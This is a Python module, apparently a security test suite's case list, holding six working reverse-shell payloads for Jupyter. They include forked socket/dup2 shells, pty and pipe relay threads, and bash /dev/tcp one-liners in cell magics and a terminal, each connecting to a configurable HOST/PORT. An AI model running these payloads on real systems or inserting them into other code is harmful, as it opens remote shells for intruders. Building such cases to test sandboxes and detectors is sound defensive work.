"""Shells that a notebook user's own session gives away: from a kernel's cell, or from a Jupyter terminal."""

from __future__ import annotations

from attacks.cases.base import Case
from live.programs import Language

CASES = (
    Case(
        name="cell-fork-dup2",
        language=Language.CELLS_STAY,
        text="""
import os, socket
if os.fork() == 0:
    net = socket.create_connection((os.environ["HOST"], int(os.environ["PORT"])))
    for number in range(3):
        os.dup2(net.fileno(), number)
    os.execl("/bin/bash", "bash", "-i")
""",
    ),
    Case(
        name="cell-relay-thread-pty",
        language=Language.CELLS_STAY,
        text="""
import os, pty, select, socket, threading
net = socket.create_connection((os.environ["HOST"], int(os.environ["PORT"])))
pid, master = pty.fork()
if pid == 0:
    os.execlp("bash", "bash", "--norc")

def relay():
    while True:
        for side in select.select([net, master], [], [])[0]:
            if side is net:
                os.write(master, net.recv(4096))
            else:
                net.send(os.read(master, 4096))

threading.Thread(target=relay, daemon=True).start()
""",
    ),
    Case(
        name="cell-relay-thread-pipes",
        language=Language.CELLS_STAY,
        text="""
import os, shutil, socket, subprocess, threading
net = socket.create_connection((os.environ["HOST"], int(os.environ["PORT"])))
shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)
down, up = net.makefile("rb", buffering=0), net.makefile("wb", buffering=0)
for source, sink in ((down, shell.stdin), (shell.stdout, up)):
    threading.Thread(target=shutil.copyfileobj, args=(source, sink, 1), daemon=True).start()
""",
    ),
    Case(
        name="cell-shell-magic",
        language=Language.CELLS_STAY,
        text="!bash -c 'bash -i >& /dev/tcp/$HOST/$PORT <&1'",
    ),
    Case(
        name="cell-bash-magic",
        language=Language.CELLS_STAY,
        text="""
%%bash --bg
exec 4<>/dev/tcp/$HOST/$PORT
sh <&4 >&4 2>&4
""",
    ),
    Case(
        name="terminal-reverse-shell",
        language=Language.SERVER_TERMINAL,
        text="bash -i >& /dev/tcp/$HOST/$PORT 0<&1",
    ),
)
